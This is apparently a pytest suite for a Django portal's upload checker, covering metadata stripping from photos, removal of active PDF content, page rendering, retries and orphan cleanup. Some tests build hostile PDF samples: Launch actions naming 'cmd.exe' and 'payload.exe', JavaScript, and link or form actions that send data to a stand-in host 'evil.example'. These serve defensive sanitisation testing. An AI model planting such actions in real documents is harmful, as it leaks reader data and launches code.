"""What the check makes of a file: a copy that tells and does nothing, page images, a state."""

from __future__ import annotations

import hashlib
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.files.storage import default_storage
from PIL import Image

from portal.files import checking, claims, orphans, services, storing, words
from portal.files.models import FileState, StoredFile
from portal.files.tasks import check_pending
from tests.clock import Shift
from tests.files import samples
from tests.files.conftest import Store


def checked(file: StoredFile) -> StoredFile:
    services.process(file.pk)
    file.refresh_from_db()
    return file


def opened(key: str) -> Image.Image:
    return Image.open(io.BytesIO(storing.get(key)))


def test_a_photo_loses_where_and_with_what_it_was_taken_and_stands_upright(store: Store) -> None:
    sent = samples.phone_photo()
    assert b"Telltale" in sent
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(samples.GPS)
    file = checked(store(samples.upload(sent, "IMG_0001.JPG")))
    assert (file.state, file.clean_media_type) == (FileState.CLEAN, "image/jpeg")
    clean = storing.get(file.clean_key)
    assert b"Telltale" not in clean
    assert b"taken at home" not in clean
    image = opened(file.clean_key)
    assert not image.getexif()
    assert image.size == (40, 60)
    top, bottom = image.getpixel((20, 5)), image.getpixel((20, 55))
    assert top[0] > 200 > bottom[0]  # type: ignore[index]  # red was on the left
    assert storing.get(file.original_key) == sent


def test_a_heic_becomes_a_jpeg(store: Store) -> None:
    file = checked(store(samples.upload(samples.heic())))
    assert (file.state, file.clean_media_type) == (FileState.CLEAN, "image/jpeg")
    assert opened(file.clean_key).format == "JPEG"


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_gets_a_copy_and_a_page(store: Store, mode: str) -> None:
    file = checked(store(samples.upload(samples.png(Image.new(mode, (30, 20))))))
    assert (file.state, opened(file.clean_key).format) == (FileState.CLEAN, "PNG")
    assert opened(file.pages.get().key).mode in ("RGB", "L")


def test_a_print_shops_cmyk_photo_is_taken(store: Store) -> None:
    file = checked(store(samples.upload(samples.jpeg(Image.new("CMYK", (30, 20))))))
    assert opened(file.clean_key).mode == "RGB"


def test_a_pdf_loses_what_acts_and_keeps_what_is_written(store: Store) -> None:
    sent = samples.acting_pdf()
    file = checked(store(samples.upload(sent)))
    assert file.state == FileState.CLEAN
    assert storing.get(file.original_key) == sent
    with pikepdf.open(io.BytesIO(sent)) as before, pikepdf.open(io.BytesIO(storing.get(file.clean_key))) as after:
        said, left = _everything(before), _everything(after)
        for telltale in ("JavaScript", samples.SCRIPT, "Launch", "cmd.exe", "payload.exe", "/XFA", "FileAttachment"):
            assert telltale in said
            assert telltale not in left
        assert "OpenAction" not in after.Root
        assert not after.attachments
        assert [str(annotation.Subtype) for annotation in after.pages[0].Annots] == ["/Widget", "/Link", "/Link"]
        assert str(after.Root.AcroForm.Fields[0].V) == "Zoë"
        jump = after.pages[0].Annots[2].A
        assert str(jump.S) == "/GoTo"
        assert "/Next" not in jump


@pytest.mark.parametrize(
    "action",
    [
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/?who=reviewer"),
        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/"),
        pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="//evil.example/share/x.pdf", D=pikepdf.Array([0])),
        pikepdf.Dictionary(S=pikepdf.Name.GoToE, D=pikepdf.Array([0])),
        pikepdf.Dictionary(S=pikepdf.Name.ImportData, F="//evil.example/share/x.fdf"),
        pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS="app.alert('boo')"),
    ],
    ids=lambda action: str(action.S),
)
def test_a_link_leads_nowhere_outside_the_document(store: Store, action: pikepdf.Dictionary) -> None:
    with pikepdf.open(io.BytesIO(samples.pdf())) as document:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=document.make_indirect(action)
        )
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])
        document.Root.Outlines = pikepdf.Dictionary(First=pikepdf.Dictionary(Title="Annex", A=action))
        written = io.BytesIO()
        document.save(written)
    with pikepdf.open(io.BytesIO(written.getvalue())) as before:
        assert str(action.S) in _everything(before)
    file = checked(store(samples.upload(written.getvalue())))
    with pikepdf.open(io.BytesIO(storing.get(file.clean_key))) as after:
        left = _everything(after)
        assert "evil" not in left
        assert str(action.S) not in left
        assert "Annex" in left


def test_a_font_that_is_called_like_an_action_stays(store: Store) -> None:
    with pikepdf.open(io.BytesIO(samples.pdf())) as document:
        font = document.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        )
        document.pages[0].Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(AA=font, JS=font))
        written = io.BytesIO()
        document.save(written)
    file = checked(store(samples.upload(written.getvalue())))
    with pikepdf.open(io.BytesIO(storing.get(file.clean_key))) as after:
        assert set(after.pages[0].Resources.Font.keys()) == {"/AA", "/JS"}


def test_every_page_of_a_pdf_gets_an_image_no_wider_than_a_screen(store: Store) -> None:
    file = checked(store(samples.upload(samples.pdf(3))))
    pages = list(file.pages.all())
    assert [page.number for page in pages] == [1, 2, 3]
    assert {page.width for page in pages} == {1400}
    assert [opened(page.key).size for page in pages] == [(page.width, page.height) for page in pages]
    bars = [opened(page.key).convert("L").point(lambda value: 255 * (value < 150)).histogram()[255] for page in pages]
    assert bars == sorted(bars)
    assert bars[0] > 0


def test_a_page_as_long_as_a_street_does_not_become_a_huge_image(store: Store) -> None:
    with pikepdf.open(io.BytesIO(samples.pdf())) as document:
        document.pages[0].MediaBox = pikepdf.Array([0, 0, 3, 14400])
        written = io.BytesIO()
        document.save(written)
    page = checked(store(samples.upload(written.getvalue()))).pages.get()
    assert (page.width <= 1400, page.height <= 4201) == (True, True)


def test_without_a_scanner_a_clean_file_says_that_nobody_scanned_it(store: Store) -> None:
    file = checked(store(samples.upload(samples.pdf())))
    assert file.scanner == "none"
    assert words.scan_in_words(file) == "not virus-scanned"


def test_bytes_that_changed_in_storage_are_never_shown(store: Store) -> None:
    file = store(samples.upload(samples.pdf()))
    storing.drop(file.original_key)
    default_storage.save(file.original_key, io.BytesIO(samples.pdf(2)))
    checked(file)
    assert (file.state, file.problem, file.clean_key) == (FileState.SUSPECT, "changed", "")
    assert "send another copy" in words.state_in_words(file)


def test_a_file_that_breaks_the_cleaning_ends_as_an_error_with_words(store: Store) -> None:
    file = store(samples.upload(samples.pdf()))
    cut = samples.pdf()[:300]
    storing.drop(file.original_key)
    default_storage.save(file.original_key, io.BytesIO(cut))
    StoredFile.objects.filter(pk=file.pk).update(sha256=hashlib.sha256(cut).hexdigest())
    checked(file)
    assert (file.state, file.problem) == (FileState.ERROR, "damaged")
    assert "replace it" in words.problem_in_words(file)


def test_checking_twice_is_checking_once(store: Store) -> None:
    file = checked(store(samples.upload(samples.pdf())))
    keys = (file.clean_key, file.pages.get().key)
    checked(file)
    assert (file.clean_key, file.pages.get().key) == keys


def test_the_task_checks_whatever_waits(store: Store) -> None:
    for _ in range(3):
        store(samples.upload(samples.png()))
    check_pending()
    assert set(StoredFile.objects.values_list("state", flat=True)) == {FileState.CLEAN}


def test_storage_that_is_away_is_tried_for_a_day_and_then_given_up(store: Store, shift_clock: Shift) -> None:
    file = store(samples.upload(samples.pdf()))
    storing.drop(file.original_key)
    tried = []
    for minutes in (*range(0, 150, 2), *range(150, 27 * 60, 30)):
        shift_clock(timedelta(minutes=minutes))
        check_pending()
        file.refresh_from_db()
        if file.state != FileState.PENDING:
            break
        tried.append(file.attempts)
    pauses = [2 * tried.count(attempt) for attempt in range(1, 5)]
    assert pauses == [6, 10, 20, 40]  # five minutes and then double, in steps of two
    assert 23 * 60 < minutes <= 26 * 60
    assert (file.state, file.problem) == (FileState.ERROR, words.GIVEN_UP)


def test_storage_that_comes_back_within_the_day_loses_nothing(store: Store, shift_clock: Shift) -> None:
    content = samples.pdf()
    file = store(samples.upload(content))
    storing.drop(file.original_key)
    for hours in range(5):
        shift_clock(timedelta(hours=hours))
        check_pending()
    default_storage.save(file.original_key, io.BytesIO(content))
    shift_clock(timedelta(hours=6))
    check_pending()
    file.refresh_from_db()
    assert file.state == FileState.CLEAN


def test_a_result_that_comes_too_late_is_thrown_away(store: Store, shift_clock: Shift, own_storage: Path) -> None:
    store(samples.upload(samples.pdf()))
    late = claims.claim_next()
    assert late is not None
    assert claims.claim_next() is None
    shift_clock(timedelta(minutes=6))
    second = claims.claim_next()
    assert second is not None
    checking._check(second)
    before = _kept(own_storage)
    checking._check(late)
    assert StoredFile.objects.get().pages.count() == 1
    assert _kept(own_storage) == before


def test_bytes_without_a_row_go_after_a_day_and_others_stay(
    store: Store, own_storage: Path, shift_clock: Shift, settings: Any
) -> None:
    file = checked(store(samples.upload(samples.pdf(2))))
    orphan = storing.put(b"left by a rolled-back upload")
    assert orphans.remove(orphans.FOLDERS) == 0
    shift_clock(timedelta(hours=25))
    assert orphans.remove(orphans.FOLDERS) == 1
    assert not default_storage.exists(orphan)
    for key in (file.original_key, file.clean_key, *file.pages.values_list("key", flat=True)):
        assert default_storage.exists(key)


def test_a_day_of_hourly_sweeps_looks_into_every_folder(shift_clock: Shift) -> None:
    looked = {folder for hour in range(24) for folder in orphans.FOLDERS[hour::24]}
    assert looked == set(orphans.FOLDERS)


def test_a_discarded_file_leaves_nothing(
    store: Store, own_storage: Path, django_capture_on_commit_callbacks: Any
) -> None:
    file = checked(store(samples.upload(samples.pdf(2))))
    with django_capture_on_commit_callbacks(execute=True):
        services.discard(file)
    assert not StoredFile.objects.exists()
    assert not _kept(own_storage)


def _everything(document: pikepdf.Pdf) -> str:
    """All that can be reached in a PDF as text: keys, names, strings."""
    found: list[str] = []
    seen: set[tuple[int, int]] = set()
    waiting: list[object] = [document.Root]
    while waiting:
        thing = waiting.pop()
        if isinstance(thing, pikepdf.Object) and thing.is_indirect:
            if thing.objgen in seen:
                continue
            seen.add(thing.objgen)
        if isinstance(thing, pikepdf.Array):
            waiting += list(thing)
        elif isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
            found += list(thing.keys())
            waiting += [thing[key] for key in thing.keys()]  # noqa: SIM118 - iterating is about something else here
        else:
            found.append(str(thing))
    return " ".join(found)


def _kept(storage: Path) -> list[Path]:
    return sorted(path for path in storage.rglob("*") if path.is_file())
